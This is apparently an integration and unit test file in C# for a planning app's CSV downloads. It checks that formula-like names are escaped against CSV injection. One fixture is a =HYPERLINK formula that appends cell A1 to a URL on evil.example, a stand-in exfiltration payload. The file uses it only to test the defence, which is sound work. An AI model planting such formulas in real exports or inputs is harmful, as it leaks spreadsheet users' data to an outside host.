using System.Globalization;
using System.Text.RegularExpressions;
using Forecasting.Contracts.V1;
using Forecasting.Web.Tests.Support;

namespace Forecasting.Web.Tests;

/// <summary>
/// Names a user typed into the API come back in the CSV downloads as text a spreadsheet shows, never as a formula it
/// runs (OWASP's CSV injection advice: a leading single quote, the field quoted), while the numbers stay numbers.
/// </summary>
[Trait("Category", "integration")]
public sealed class CsvInjectionTests(WebFactory factory) : IClassFixture<WebFactory>
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";

    [Fact]
    public async Task Scenario_and_phase_names_that_look_like_formulas_are_escaped_and_negative_numbers_stay_numbers()
    {
        using var channel = factory.Channel();
        var planning = new PlanningService.PlanningServiceClient(channel);
        var strategy = (await planning.ListStrategiesAsync(new ListStrategiesRequest { CouncilCode = WebFactory.Council },
            WebFactory.Key(WebFactory.StrategyLead))).Strategies.OrderBy(s => s.Version).Last();
        var version = new CreateStrategyVersionRequest
        {
            CouncilCode = WebFactory.Council, StrategyId = strategy.StrategyId, StartFy = 2024, EndFy = 2030, Reason = "phases named like formulas",
            Phases =
            {
                new StrategyPhase { Name = "+1+1", StartFy = 2024, EndFy = 2025, UnitTarget = 90 },
                new StrategyPhase { Name = "@SUM(1)", StartFy = 2026, EndFy = 2027, UnitTarget = 150 },
                new StrategyPhase { Name = "\t=1", StartFy = 2028, EndFy = 2030, UnitTarget = 200 },
            },
        };
        await planning.CreateStrategyVersionAsync(version, WebFactory.Key(WebFactory.StrategyLead));
        var scenario = await planning.CreateScenarioAsync(new CreateScenarioRequest
        {
            CouncilCode = WebFactory.Council, Name = Hyperlink,
            // More Shared Lives placements and more direct payments: less need, so the change from the baseline is negative.
            Levers = new ScenarioLevers { SharedLivesPlacementsPerYear = 60, DirectPaymentShareChange = 0.2 },
        }, WebFactory.Key(WebFactory.StrategyLead));
        string? resultId = null;
        using (var run = planning.RunScenario(new RunScenarioRequest { CouncilCode = WebFactory.Council, ScenarioId = scenario.ScenarioId },
                   WebFactory.Key(WebFactory.Commissioner)))
            while (await run.ResponseStream.MoveNext(CancellationToken.None))
                if (run.ResponseStream.Current.Result is { } result) resultId = result.ResultId;
        // The downloads show published runs only: publish this one.
        await planning.PublishResultAsync(new PublishResultRequest { ResultId = resultId!, Label = "formula names" }, WebFactory.Key(WebFactory.StrategyLead));

        var client = await factory.SignedIn(WebFactory.Commissioner);

        // Targets: each year's phase, written by hand as the escaped field. The tab stays inside the quoted field.
        var targetsText = await client.GetStringAsync("/download/targets/csv");
        var targetLines = targetsText.TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Contains(targetLines, l => l.Contains(",\"'+1+1\",", StringComparison.Ordinal));
        Assert.Contains(targetLines, l => l.Contains(",\"'@SUM(1)\",", StringComparison.Ordinal));
        Assert.Contains(targetLines, l => l.Contains(",\"'\t=1\",", StringComparison.Ordinal));
        var targets = CsvFile.Parse(targetsText);
        var phase = Array.IndexOf(targets.Header, "Phase");
        var phases = targets.Rows.Select(r => r[phase]).Where(p => p != "").Distinct().ToList();
        Assert.Equal(new[] { "'+1+1", "'@SUM(1)", "'\t=1" }.Order(StringComparer.Ordinal), phases.Order(StringComparer.Ordinal));
        Assert.DoesNotContain(targets.Rows.SelectMany(r => r), cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]) && !IsNumber(cell));

        // Scenarios: the name as one escaped field (quotes doubled); the change from the baseline a bare negative number.
        var scenariosText = await client.GetStringAsync("/download/scenarios/csv");
        var line = Assert.Single(scenariosText.Split("\r\n"), l => l.Contains("HYPERLINK", StringComparison.Ordinal));
        Assert.StartsWith("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",", line);
        var scenarios = CsvFile.Parse(scenariosText);
        var row = Assert.Single(scenarios.Rows, r => r[0].Contains("HYPERLINK", StringComparison.Ordinal));
        Assert.Equal("'" + Hyperlink, row[0]);
        var baseline = scenarios.Rows[0];
        var shortfall = Array.IndexOf(scenarios.Header, "Demand-based shortfall (sum of group gaps)");
        var change = Array.IndexOf(scenarios.Header, "Change from baseline (sum of group gaps)");
        Assert.Matches("^-[0-9]+$", row[change]);
        Assert.Contains("," + row[change] + ",", line);
        // The change is the scenario's shortfall less the baseline's (each rounded to a unit on its own, so within one).
        var expected = double.Parse(row[shortfall], CultureInfo.InvariantCulture) - double.Parse(baseline[shortfall], CultureInfo.InvariantCulture);
        Assert.InRange(double.Parse(row[change], CultureInfo.InvariantCulture), expected - 1, expected + 1);
    }

    private static bool IsNumber(string cell) => Regex.IsMatch(cell, "^-?[0-9]+(\\.[0-9]+)?$");
}

/// <summary>The writer itself, cell by cell, against fields written by hand.</summary>
[Trait("Category", "unit")]
public sealed class DataTableCsvTests
{
    [Fact]
    public void Text_cells_are_escaped_by_their_first_character_and_number_cells_never_are()
    {
        var table = Dashboard.DataTable.Build("t", "t", "s", [new("Name"), new("Change", 0), new("Note")],
        [
            ["=1+2", -12.4, "-5"],
            ["\rtext", -7.0, "a \"quoted\" word"],
            ["+x", null, "@home"],
            ["plain", 3.0, "–"],
        ]);
        Assert.Equal(
            "Name,Change,Note\r\n" +
            "\"'=1+2\",-12,\"'-5\"\r\n" +
            "\"'\rtext\",-7,\"a \"\"quoted\"\" word\"\r\n" +
            "\"'+x\",,\"'@home\"\r\n" +
            "plain,3,–\r\n",
            table.ToCsv());
    }
}
